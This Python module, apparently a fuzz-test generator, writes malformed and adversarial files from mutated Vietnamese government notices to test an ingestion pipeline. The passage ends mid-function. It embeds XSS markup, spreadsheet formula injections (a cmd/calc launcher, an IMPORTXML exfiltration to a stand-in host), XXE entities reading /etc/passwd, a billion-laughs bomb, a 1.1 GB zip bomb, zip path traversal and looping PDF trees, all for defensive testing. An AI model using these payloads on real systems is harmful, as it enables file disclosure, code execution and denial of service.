"""Write seeded malformed and adversarial notice files, and a manifest of them.

``generate(out_dir, n, seed)`` writes ``n`` inputs into ``out_dir/b000``,
``out_dir/b001``... (at most ``per_folder`` each, so a batch can run per folder) and
``out_dir/manifest.jsonl`` (one ``{"path", "kind"}`` per input, the path relative to
``out_dir``). The same seed writes the same bytes. Every Vietnamese sentence below is
written for this file; the mutated notices come from the team's ``corpus/raw``.
"""

from __future__ import annotations

import contextlib
import dataclasses
import datetime as dt
import functools
import io
import json
import os
import random
import shutil
import unicodedata
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[2]
PER_FOLDER = 200
EXTENSIONS = (".txt", ".md", ".docx", ".pdf", ".html", ".htm")
FIXED_TIME = (1980, 1, 1, 0, 0, 0)  # zip member times: same seed, same bytes

# A kind writes one input: (stem, rng, context) -> the path it wrote. ``stem`` is
# out_dir/bNNN/NNNNN-kind; the kind adds its extension or picks its own name.
Maker = Callable[[Path, random.Random, "Context"], Path]
KINDS: dict[str, Maker] = {}
# Kinds too big or slow to write many of: how many per 10,000 inputs (at least one).
RARE = {
    "giant_under_limit": 3,
    "giant_over_limit": 3,
    "million_paragraphs_docx": 2,
    "zip_bomb_docx": 10,
    "many_items": 20,  # the slow ones: seconds to a minute per input today
    "repeated_agency": 20,
    "huge_line": 20,
}
# Kinds a bounded sample leaves out (tens of megabytes, or minutes of parsing).
HEAVY = ("giant_under_limit", "giant_over_limit", "million_paragraphs_docx")
# Kinds that take seconds of extraction each (the scaling benchmark covers them): the
# sample in `make test` leaves them to the full campaign.
SLOW = ("many_items", "repeated_agency", "huge_line")


@dataclasses.dataclass(frozen=True)
class Case:
    """One generated input: ``path`` relative to the output folder (``os.fsdecode``
    form, so a name that is not UTF-8 survives), and the kind that made it."""

    path: str
    kind: str


@dataclasses.dataclass
class Context:
    """What the kinds share: the real notices to mutate, the size limit, and files
    that are costly to build and are written once then copied."""

    out_dir: Path
    notices: list[str]
    max_bytes: int
    built: dict[str, Path] = dataclasses.field(default_factory=dict)


def kind(name: str) -> Callable[[Maker], Maker]:
    def register(fn: Maker) -> Maker:
        KINDS[name] = fn
        return fn

    return register


def generate(
    out_dir: Path,
    n: int,
    seed: int,
    *,
    exclude: Iterable[str] = (),
    per_folder: int = PER_FOLDER,
) -> list[Case]:
    """Write ``n`` inputs and ``manifest.jsonl`` into ``out_dir``.

    Args:
        out_dir: created if missing; should be empty.
        n: how many inputs.
        seed: same seed, same files.
        exclude: kinds to leave out (e.g. ``HEAVY`` for a quick sample).
        per_folder: inputs per batch folder.

    Returns:
        The cases in manifest order.
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    ctx = Context(out_dir, _real_notices(), _max_bytes())
    plan = _plan(n, seed, set(exclude))
    cases = []
    for i, name in enumerate(plan):
        folder = out_dir / f"b{i // per_folder:03d}"
        folder.mkdir(exist_ok=True)
        rng = random.Random(f"{seed}-{i}-{name}")
        path = KINDS[name](folder / f"{i:05d}-{name}", rng, ctx)
        cases.append(Case(Path(path).relative_to(out_dir).as_posix(), name))
    with open(out_dir / "manifest.jsonl", "w", encoding="utf-8") as f:
        for case in cases:
            f.write(json.dumps(dataclasses.asdict(case)) + "\n")
    return cases


def read_manifest(out_dir: Path) -> list[Case]:
    """The cases ``generate`` wrote into ``out_dir``."""
    lines = (Path(out_dir) / "manifest.jsonl").read_text(encoding="utf-8").splitlines()
    return [Case(**json.loads(line)) for line in lines if line]


def _plan(n: int, seed: int, exclude: set[str]) -> list[str]:
    """Which kind each input is: the rare ones counted, the rest round-robin."""
    rare = [k for k in RARE if k not in exclude]
    plan = [k for k in rare for _ in range(max(1, round(n * RARE[k] / 10_000)))]
    common = [k for k in KINDS if k not in RARE and k not in exclude]
    plan = plan[:n] + [common[i % len(common)] for i in range(max(0, n - len(plan)))]
    random.Random(seed).shuffle(plan)
    return plan


def _real_notices() -> list[str]:
    files = sorted((ROOT / "corpus" / "raw").rglob("*.txt"))
    return [f.read_text(encoding="utf-8", errors="replace") for f in files]


def _max_bytes() -> int:
    params = yaml.safe_load((ROOT / "params.yaml").read_text(encoding="utf-8"))
    return int(params["ingest"]["max_bytes"])


# ---------------------------------------------------------------- building blocks


def _write(path: Path, data: bytes | str) -> Path:
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)
    return path


def _notice(rng: random.Random, ctx: Context) -> str:
    return rng.choice(ctx.notices)


def _blocks(text: str) -> list[str]:
    """Paragraph blocks of a notice (split on blank lines)."""
    return [b for b in text.split("\n\n") if b.strip()]


def _some(rng: random.Random, items: list) -> list:
    """One or more of ``items``, in a random order."""
    return rng.sample(items, rng.randint(1, len(items)))


def _insert(text: str, rng: random.Random, lines: list[str]) -> str:
    """``lines`` as new paragraphs after a random block of the notice's second half."""
    blocks = _blocks(text)
    at = rng.randint(len(blocks) // 2, len(blocks))
    return "\n\n".join(blocks[:at] + lines + blocks[at:]) + "\n"


def _flip(data: bytes, rng: random.Random, count: int) -> bytes:
    out = bytearray(data)
    for _ in range(count):
        at = rng.randrange(len(out))
        out[at] ^= rng.randint(1, 255)
    return bytes(out)


def _truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randint(1, max(1, len(data) - 1))]


def _zip(members: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip with fixed member times, so the same members give the same bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


@functools.cache
def _docx_template() -> tuple[tuple[str, bytes], ...]:
    """The members of an empty python-docx document."""
    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    with zipfile.ZipFile(buf) as z:
        return tuple((name, z.read(name)) for name in z.namelist())


def _docx(lines: list[str]) -> bytes:
    """A valid .docx, one paragraph per line (python-docx), with fixed zip times."""
    import docx

    document = docx.Document()
    for line in lines:
        document.add_paragraph(_xml_safe(line))
    buf = io.BytesIO()
    document.save(buf)
    with zipfile.ZipFile(buf) as z:
        return _zip((name, z.read(name)) for name in z.namelist())


def _xml_safe(text: str) -> str:
    """Drop the characters XML 1.0 cannot hold (python-docx refuses them)."""
    return "".join(
        c for c in text if c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff")
    )


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _document_xml(body: str, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'{doctype}<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def _docx_with(document_xml: bytes, extra: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """The template .docx with its word/document.xml replaced (and extra members)."""
    members = [
        (name, document_xml if name == "word/document.xml" else data)
        for name, data in _docx_template()
    ]
    return _zip(members + list(extra))


def _paragraphs_xml(lines: list[str]) -> str:
    from xml.sax.saxutils import escape

    return "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(_xml_safe(line))}</w:t></w:r></w:p>'
        for line in lines
    )


def _html(
    lines: list[str], title: str = "Thông báo kết luận", raw: bool = False
) -> str:
    """A simple notice page; ``raw`` keeps markup inside the lines unescaped."""
    from html import escape

    body = "\n".join(f"<p>{line if raw else escape(line)}</p>" for line in lines)
    return (
        '<!DOCTYPE html>\n<html lang="vi"><head><meta charset="utf-8">'
        f"<title>{escape(title)}</title></head>\n<body><article>\n{body}\n"
        "</article></body></html>\n"
    )


@functools.cache
def _pdf_font() -> str:
    """A TrueType font with Vietnamese letters for reportlab, else Helvetica."""
    import matplotlib
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont

    for candidate in (
        Path(matplotlib.get_data_path()) / "fonts/ttf/DejaVuSans.ttf",
        Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"),
    ):
        if candidate.exists():
            pdfmetrics.registerFont(TTFont("DejaVu", str(candidate)))
            return "DejaVu"
    return "Helvetica"


def _ascii(text: str) -> str:
    folded = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    return "".join(c for c in folded if ord(c) < 128)


def _pdf(lines: list[str]) -> bytes:
    """A valid text PDF (reportlab with fixed dates and ids), else one by hand."""
    try:
        from reportlab.pdfgen import canvas
    except ImportError:
        return _pdf_by_hand(lines)
    font = _pdf_font()
    buf = io.BytesIO()
    page = canvas.Canvas(buf, invariant=1)
    y = 800
    for line in lines:
        for part in [line[i : i + 90] for i in range(0, len(line), 90)] or [""]:
            if y < 60:
                page.showPage()
                y = 800
            page.setFont(font, 10)
            page.drawString(40, y, part if font != "Helvetica" else _ascii(part))
            y -= 14
    page.save()
    return buf.getvalue()


def _pdf_objects(objects: list[bytes]) -> bytes:
    """A PDF file of numbered objects (1, 2...) with a correct xref; 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _content(lines: list[str]) -> bytes:
    """A page content stream writing ``lines`` (ASCII) in Helvetica."""
    ops = [b"BT /F1 11 Tf 40 800 Td 14 TL"]
    for line in lines[:50]:
        text = (
            _ascii(line).replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        )
        ops.append(b"(" + text.encode("ascii")[:200] + b") '")
    return b"\n".join(ops + [b"ET"])


FONT_OBJ = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _pdf_by_hand(lines: list[str]) -> bytes:
    """A minimal one-page PDF with a text object (no library)."""
    return _pdf_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_content(lines)),
            FONT_OBJ,
        ]
    )


def _lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


# ---------------------------------------------------------------- kinds: bytes


def _random_bytes(ext: str) -> Maker:
    def make(stem: Path, rng: random.Random, ctx: Context) -> Path:
        return _write(stem.with_suffix(ext), rng.randbytes(rng.randint(1, 64_000)))

    return make


for _ext in EXTENSIONS:
    kind(f"random_bytes{_ext.replace('.', '_')}")(_random_bytes(_ext))


@kind("random_bytes_doc_ole2")
def random_bytes_doc_ole2(stem, rng, ctx):
    """A Word 97 signature, then garbage: antiword and catdoc must refuse it in one line."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return _write(stem.with_suffix(".doc"), head + rng.randbytes(rng.randint(0, 64_000)))


@kind("random_bytes_rtf")
def random_bytes_rtf(stem, rng, ctx):
    """An RTF opening, then garbage (LibreOffice reads .rtf)."""
    return _write(stem.with_suffix(rng.choice((".rtf", ".doc"))),
                  b"{\\rtf1 " + rng.randbytes(rng.randint(0, 20_000)))


@kind("random_bytes_odt")
def random_bytes_odt(stem, rng, ctx):
    return _write(stem.with_suffix(".odt"), rng.randbytes(rng.randint(1, 20_000)))


@kind("noise_scan_pdf")
def noise_scan_pdf(stem, rng, ctx):
    """An image-only page of noise: OCR must finish and find no notice in it."""
    import numpy as np
    from PIL import Image

    seed = rng.randrange(2**32)
    pixels = np.random.default_rng(seed).integers(0, 256, (600, 420), dtype=np.uint8)
    path = stem.with_suffix(".pdf")
    # fixed dates: Pillow stamps the PDF with the time of writing otherwise
    stamp = dt.datetime(2020, 1, 1).timetuple()
    Image.fromarray(pixels).save(path, "PDF", resolution=72.0, creationDate=stamp, modDate=stamp)
    return path


@kind("empty_file")
def empty_file(stem, rng, ctx):
    return _write(stem.with_suffix(rng.choice(EXTENSIONS)), b"")


@kind("whitespace_only")
def whitespace_only(stem, rng, ctx):
    spaces = "".join(rng.choice(" \t\n\r\f\v\u00a0\u2003\u3000") for _ in range(300))
    return _write(stem.with_suffix(rng.choice(EXTENSIONS)), spaces)


@kind("bom_only")
def bom_only(stem, rng, ctx):
    bom = rng.choice(
        [
            b"\xef\xbb\xbf",
            b"\xff\xfe",
            b"\xfe\xff",
            b"\xff\xfe\x00\x00",
            b"\xef\xbb\xbf" * 3,
        ]
    )
    return _write(stem.with_suffix(rng.choice((".txt", ".md", ".html"))), bom)


@kind("invalid_utf8")
def invalid_utf8(stem, rng, ctx):
    data = bytearray(_notice(rng, ctx).encode("utf-8"))
    bad = [b"\xc3", b"\xe1\xba", b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80"]
    for _ in range(rng.randint(1, 400)):
        at = rng.randrange(len(data))
        data[at:at] = rng.choice(bad)
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), bytes(data))


@kind("mixed_encoding")
def mixed_encoding(stem, rng, ctx):
    blocks = _blocks(_notice(rng, ctx))
    codecs = ("utf-8", "cp1258", "utf-16-le", "latin-1", "cp1252")
    parts = [b.encode(rng.choice(codecs), errors="replace") + b"\n\n" for b in blocks]
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), b"".join(parts))


@kind("utf16_with_bom")
def utf16_with_bom(stem, rng, ctx):
    codec = rng.choice(("utf-16", "utf-16-be", "utf-32"))
    data = _notice(rng, ctx).encode(codec)
    if codec == "utf-16-be":
        data = b"\xfe\xff" + data
    return _write(stem.with_suffix(rng.choice((".txt", ".md", ".html"))), data)


@kind("utf16_without_bom")
def utf16_without_bom(stem, rng, ctx):
    data = _notice(rng, ctx).encode(rng.choice(("utf-16-le", "utf-16-be")))
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), data)


@kind("nul_bytes")
def nul_bytes(stem, rng, ctx):
    data = bytearray(_notice(rng, ctx).encode("utf-8"))
    for _ in range(rng.choice((1, 3, 50, 5000))):
        data.insert(rng.randrange(len(data)), 0)
    return _write(
        stem.with_suffix(rng.choice((".txt", ".md", ".html", ".htm"))), bytes(data)
    )


@kind("control_chars")
def control_chars(stem, rng, ctx):
    text = list(_notice(rng, ctx))
    controls = [
        chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160))
    ]
    share = rng.choice((0.001, 0.005, 0.02, 0.3))
    for _ in range(int(len(text) * share) + 1):
        text.insert(rng.randrange(len(text)), rng.choice(controls))
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), "".join(text))


ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u202e\u2066\u2069\u061c"


@kind("zero_width")
def zero_width(stem, rng, ctx):
    text = list(_notice(rng, ctx))
    for _ in range(len(text) // rng.choice((2, 10, 100))):
        text.insert(rng.randrange(len(text)), rng.choice(ZERO_WIDTH))
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), "".join(text))


@kind("combining_flood")
def combining_flood(stem, rng, ctx):
    text = list(_notice(rng, ctx))
    marks = [chr(c) for c in range(0x300, 0x370)]
    for _ in range(rng.randint(1, 20)):
        at = rng.randrange(len(text))
        text[at] += "".join(
            rng.choice(marks) for _ in range(rng.choice((50, 500, 5000)))
        )
    return _write(stem.with_suffix(".txt"), "".join(text))


@kind("huge_line")
def huge_line(stem, rng, ctx):
    sentence = rng.choice(
        [
            "Giao Sở Kế hoạch và Đầu tư chủ trì rà soát danh mục dự án trước ngày 30/6/2025; ",
            "Các xã, phường tiếp tục đôn đốc giải ngân vốn đầu tư công, ",
            "a" * 997 + " ",
        ]
    )
    size = rng.randint(500_000, 2_000_000)
    head = _notice(rng, ctx)[:400].replace("\n", " ")
    return _write(stem.with_suffix(".txt"), head + sentence * (size // len(sentence)))


def _giant(stem: Path, rng: random.Random, ctx: Context, size: int) -> Path:
    unit = _notice(rng, ctx).encode("utf-8") + b"\n\n"
    data = (unit * (size // len(unit) + 1))[:size]
    # end on a whole character: drop a cut UTF-8 sequence, pad with spaces
    data = data.decode("utf-8", errors="ignore").encode("utf-8")
    return _write(stem.with_suffix(".txt"), data + b" " * (size - len(data)))


@kind("giant_under_limit")
def giant_under_limit(stem, rng, ctx):
    return _giant(stem, rng, ctx, ctx.max_bytes - rng.randint(0, 64))


@kind("giant_over_limit")
def giant_over_limit(stem, rng, ctx):
    return _giant(stem, rng, ctx, ctx.max_bytes + rng.randint(1, 64))


# ---------------------------------------------------------------- kinds: mutated notices


def _mutated(ext_choices=(".txt", ".txt", ".txt", ".md")):
    """A kind from a text -> text mutation of a real notice."""

    def wrap(mutate: Callable[[str, random.Random], str]) -> Maker:
        def make(stem, rng, ctx):
            text = mutate(_notice(rng, ctx), rng)
            return _write(stem.with_suffix(rng.choice(ext_choices)), text)

        return make

    return wrap


@kind("mut_byte_flip")
def mut_byte_flip(stem, rng, ctx):
    data = _notice(rng, ctx).encode("utf-8")
    return _write(
        stem.with_suffix(".txt"), _flip(data, rng, rng.choice((1, 5, 50, 500)))
    )


@kind("mut_truncate")
def mut_truncate(stem, rng, ctx):
    data = _notice(rng, ctx).encode("utf-8")
    return _write(stem.with_suffix(rng.choice((".txt", ".md"))), _truncate(data, rng))


@kind("mut_shuffle_sections")
@_mutated()
def mut_shuffle_sections(text, rng):
    blocks = _blocks(text)
    rng.shuffle(blocks)
    return "\n\n".join(blocks)


@kind("mut_duplicate_sections")
@_mutated()
def mut_duplicate_sections(text, rng):
    blocks = _blocks(text)
    for _ in range(rng.randint(1, 30)):
        block = rng.choice(blocks)
        blocks.insert(rng.randrange(len(blocks) + 1), block)
    return "\n\n".join(blocks)


@kind("mut_no_newlines")
@_mutated()
def mut_no_newlines(text, rng):
    return text.replace("\n", rng.choice(("", " ", "\r")))


@kind("deep_numbering")
@_mutated()
def deep_numbering(text, rng):
    depth = rng.choice((12, 60, 400, 3000))
    lines = [
        ".".join(["1"] * d)
        + ". Sở Xây dựng rà soát quy hoạch chung và báo cáo kết quả."
        for d in (depth, depth // 2, depth)
    ]
    lines.append("(" * 500 + "a" + ")" * 500 + " Giao Sở Nội vụ theo dõi.")
    lines.append("I" * 2000 + ". NHIỆM VỤ TRỌNG TÂM")
    return _insert(text, rng, lines)


ABSURD_DATES = [
    "Giao Sở Tài chính hoàn thành trước ngày 31 tháng 12 năm 9999.",
    "Sở Y tế báo cáo kết quả trong năm 10000.",
    "Ban Quản lý dự án hoàn thành trong vòng 99999999 ngày kể từ ngày ký.",
    "Sở Giao thông vận tải trình phương án trước ngày 0 tháng 0 năm 0.",
    "Sở Công Thương gửi báo cáo trước ngày 32/13/2024 và trước ngày 29/02/2023.",
    "Hoàn thành trước ngày 31/12/99999999999999999999.",
    "Trong quý 7 năm -5, Sở Nội vụ kiện toàn bộ máy.",
    "Trước ngày 1 tháng 1 năm 0001, các huyện rà soát hồ sơ.",
    "Hằng tháng, trước ngày 99, Sở Tư pháp tổng hợp báo cáo.",
]


@kind("absurd_dates")
@_mutated()
def absurd_dates(text, rng):
    return _insert(text, rng, _some(rng, ABSURD_DATES))


@kind("absurd_numbers")
@_mutated()
def absurd_numbers(text, rng):
    digits = "".join(rng.choice("0123456789") for _ in range(400))
    lines = [
        f"Phấn đấu tổng thu ngân sách năm nay đạt {digits} tỷ đồng.",
        f"Tăng trưởng kinh tế đạt {digits[:60]},{digits[60:120]}% so với cùng kỳ.",
        "Giải ngân vốn đầu tư công đạt 1e308 tỷ đồng, tương đương inf%.",
        "Tỷ lệ hộ nghèo giảm còn -0,0000000000000000000001%.",
        "Thu hút " + ".".join(["999"] * 150) + " lượt khách du lịch.",
        "Chỉ tiêu trồng rừng đạt NaN ha, chi phí Infinity triệu đồng.",
    ]
    return _insert(text, rng, _some(rng, lines))


@kind("giant_legal_id")
@_mutated()
def giant_legal_id(text, rng):
    number = "".join(
        rng.choice("0123456789") for _ in range(rng.choice((40, 400, 4000)))
    )
    lines = [
        f"Thực hiện Nghị quyết số {number}/NQ-CP ngày 05/3/2024 của Chính phủ.",
        f"Căn cứ Quyết định số 12/{'QĐ-' * 500}UBND, Sở Tư pháp rà soát văn bản.",
        f"Theo Kế hoạch số {number}/{number}/KH-UBND, các sở triển khai ngay.",
    ]
    return _insert(text, rng, lines)


@kind("repeated_agency")
@_mutated()
def repeated_agency(text, rng):
    mention = rng.choice(("Sở Tài chính, ", "UBND các huyện, ", "Sở Y tế; "))
    return _insert(text, rng, ["Giao " + mention * 10_000 + "phối hợp thực hiện."])


@kind("many_items")
@_mutated()
def many_items(text, rng):
    agencies = ("Sở Xây dựng", "Sở Nội vụ", "UBND huyện Châu Thành", "Công an tỉnh")
    items = [
        f"{k}. {rng.choice(agencies)} khẩn trương rà soát hồ sơ thứ {k} và báo cáo "
        f"trước ngày {1 + k % 28}/{1 + k % 12}/2025."
        for k in range(1, 16_001)
    ]
    return _insert(text, rng, ["\n".join(items)])


FORMULAS = [
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-13",
    "=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "\t=2+5",
]


@kind("formula_tasks")
@_mutated()
def formula_tasks(text, rng):
    lines = [
        f"{formula} Giao Sở Tài chính chủ trì, phối hợp với Sở Kế hoạch và Đầu tư "
        "tham mưu phân bổ vốn trước ngày 15/7/2025."
        for formula in _some(rng, FORMULAS)
    ]
    return _insert(text, rng, lines)


AGENCY_MARKUP = [
    "Giao <script>alert(1)</script>Sở Nội vụ chủ trì rà soát biên chế trước ngày 30/9/2025.",
    'Sở <b onmouseover="alert(2)">Công Thương</b> phối hợp với Sở Tài chính thực hiện.',
    "Giao Sở <img src=x onerror=alert(3)> Y tế kiểm tra an toàn thực phẩm.",
    'Giao <a href="javascript:alert(4)">UBND huyện Phú Quốc</a> báo cáo kết quả.',
    "Sở Tư pháp </p></article><iframe src=//x></iframe> thẩm định dự thảo.",
    "Giao Sở {{7*7}} ${7*7} <%= 7*7 %> Ngoại vụ tổng hợp ý kiến.",
]


@kind("html_in_agency_txt")
@_mutated()
def html_in_agency_txt(text, rng):
    return _insert(text, rng, _some(rng, AGENCY_MARKUP))


@kind("html_in_agency_html")
def html_in_agency_html(stem, rng, ctx):
    lines = _lines(_notice(rng, ctx))
    for line in _some(rng, AGENCY_MARKUP):
        lines.insert(rng.randint(len(lines) // 2, len(lines)), line)
    return _write(
        stem.with_suffix(rng.choice((".html", ".htm"))), _html(lines, raw=True)
    )


# ---------------------------------------------------------------- kinds: containers


@kind("valid_docx")
def valid_docx(stem, rng, ctx):
    return _write(stem.with_suffix(".docx"), _docx(_lines(_notice(rng, ctx))))


@kind("truncated_docx")
def truncated_docx(stem, rng, ctx):
    data = _docx(_lines(_notice(rng, ctx)))
    return _write(stem.with_suffix(".docx"), _truncate(data, rng))


@kind("flipped_docx")
def flipped_docx(stem, rng, ctx):
    data = _docx(_lines(_notice(rng, ctx)))
    return _write(stem.with_suffix(".docx"), _flip(data, rng, rng.choice((1, 3, 30))))


@kind("valid_pdf")
def valid_pdf(stem, rng, ctx):
    return _write(stem.with_suffix(".pdf"), _pdf(_lines(_notice(rng, ctx))))


@kind("truncated_pdf")
def truncated_pdf(stem, rng, ctx):
    return _write(
        stem.with_suffix(".pdf"), _truncate(_pdf(_lines(_notice(rng, ctx))), rng)
    )


@kind("flipped_pdf")
def flipped_pdf(stem, rng, ctx):
    data = _pdf(_lines(_notice(rng, ctx)))
    return _write(stem.with_suffix(".pdf"), _flip(data, rng, rng.choice((1, 3, 30))))


@kind("valid_html")
def valid_html(stem, rng, ctx):
    page = _html(_lines(_notice(rng, ctx)))
    return _write(stem.with_suffix(rng.choice((".html", ".htm"))), page)


@kind("truncated_html")
def truncated_html(stem, rng, ctx):
    page = _html(_lines(_notice(rng, ctx))).encode("utf-8")
    return _write(stem.with_suffix(rng.choice((".html", ".htm"))), _truncate(page, rng))


@kind("flipped_html")
def flipped_html(stem, rng, ctx):
    page = _html(_lines(_notice(rng, ctx))).encode("utf-8")
    data = _flip(page, rng, rng.choice((1, 10, 100)))
    return _write(stem.with_suffix(rng.choice((".html", ".htm"))), data)


@kind("zip_bomb_docx")
def zip_bomb_docx(stem, rng, ctx):
    """word/document.xml inflates to 1.1 GB; written once, streamed, then copied."""
    if "zip_bomb" not in ctx.built:
        path = ctx.out_dir / "_built" / "bomb.docx"
        path.parent.mkdir(exist_ok=True)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in _docx_template():
                if name != "word/document.xml":
                    z.writestr(
                        zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED
                    )
            info = zipfile.ZipInfo("word/document.xml", FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            _fast(info)
            with z.open(info, "w", force_zip64=True) as member:
                head, tail = _document_xml("\x00").split(b"\x00")
                member.write(head + b"<w:p><w:r><w:t>")
                chunk = b"A" * (1 << 20)
                for _ in range(1100):
                    member.write(chunk)
                member.write(b"</w:t></w:r></w:p>" + tail)
        ctx.built["zip_bomb"] = path
    return Path(shutil.copyfile(ctx.built["zip_bomb"], stem.with_suffix(".docx")))


def _fast(info: zipfile.ZipInfo) -> None:
    """Deflate level 1: four times faster on the bomb (5 MB on disk instead of 1 MB)."""
    for name in ("_compresslevel", "compress_level"):  # Python 3.11, 3.13
        with contextlib.suppress(AttributeError):
            setattr(info, name, 1)


@kind("million_paragraphs_docx")
def million_paragraphs_docx(stem, rng, ctx):
    xml = _document_xml(_paragraphs_xml(["Thông báo kết luận"]) + "<w:p/>" * 1_000_000)
    return _write(stem.with_suffix(".docx"), _docx_with(xml))


LAUGHS = "".join(f'<!ENTITY lol{k} "{f"&lol{k - 1};" * 10}">' for k in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{LAUGHS}]>\n'
XXE_FILE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
XXE_DTD = (
    '<!DOCTYPE w:document SYSTEM "http://127.0.0.1:9/evil.dtd" '
    '[<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>\n'
)


def _entity_docx(stem: Path, rng: random.Random, ctx: Context, doctype: str, ref: str):
    lines = _lines(_notice(rng, ctx))[:40]
    body = _paragraphs_xml(lines) + f"<w:p><w:r><w:t>{ref}</w:t></w:r></w:p>"
    return _write(stem.with_suffix(".docx"), _docx_with(_document_xml(body, doctype)))


@kind("billion_laughs_docx")
def billion_laughs_docx(stem, rng, ctx):
    return _entity_docx(stem, rng, ctx, BILLION_LAUGHS, "&lol9;")


@kind("xxe_docx")
def xxe_docx(stem, rng, ctx):
    return _entity_docx(stem, rng, ctx, XXE_FILE, "Sở Tư pháp &xxe; báo cáo.")


@kind("xxe_dtd_docx")
def xxe_dtd_docx(stem, rng, ctx):
    return _entity_docx(stem, rng, ctx, XXE_DTD, "Sở Tư pháp báo cáo.")


def _entity_html(stem, rng, ctx, doctype: str, ref: str):
    page = _html(_lines(_notice(rng, ctx))[:40] + [ref], raw=True)
    page = page.replace("<!DOCTYPE html>\n", doctype.replace("w:document", "html"))
    return _write(stem.with_suffix(rng.choice((".html", ".htm"))), page)


@kind("billion_laughs_html")
def billion_laughs_html(stem, rng, ctx):
    return _entity_html(
        stem, rng, ctx, BILLION_LAUGHS.replace("lolz", "html"), "&lol9;"
    )


@kind("xxe_html")
def xxe_html(stem, rng, ctx):
    doctype = rng.choice((XXE_FILE, XXE_DTD))
    return _entity_html(stem, rng, ctx, doctype, "Sở Tư pháp &xxe; báo cáo.")


@kind("zip_traversal_docx")
def zip_traversal_docx(stem, rng, ctx):
    lines = _lines(_notice(rng, ctx))
    evil = [
        ("../../evil.txt", b"ghi ra ngoai thu muc"),
        ("/tmp/ketluan-fuzz-evil.txt", b"duong dan tuyet doi"),
        ("word/../../../evil2.txt", b"x"),
    ]
    xml = _document_xml(_paragraphs_xml(lines))
    return _write(stem.with_suffix(".docx"), _docx_with(xml, evil[: rng.randint(1, 3)]))


PAGE = (
    b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] "
    b"/Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>"
)


@kind("pdf_pages_loop")
def pdf_pages_loop(stem, rng, ctx):
    """A /Pages node that lists itself among its kids (and a page whose parent loops)."""
    kids = rng.choice((b"[2 0 R 3 0 R]", b"[2 0 R]", b"[3 0 R 2 0 R 3 0 R]"))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids " + kids + b" /Count 3 >>",
        PAGE % (2, 4, 5),
        _stream(_content(_lines(_notice(rng, ctx)))),
        FONT_OBJ,
    ]
    return _write(stem.with_suffix(".pdf"), _pdf_objects(objects))


@kind("pdf_deep_tree")
def pdf_deep_tree(stem, rng, ctx):
    """A page tree 10,000 /Pages nodes deep with one page at the bottom."""
    depth = 10_000
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for k in range(2, depth + 2):  # objects 2 .. depth+1 are /Pages nodes
        parent = b" /Parent %d 0 R" % (k - 1) if k > 2 else b""
        objects.append(
            b"<< /Type /Pages%s /Kids [%d 0 R] /Count 1 >>" % (parent, k + 1)
        )
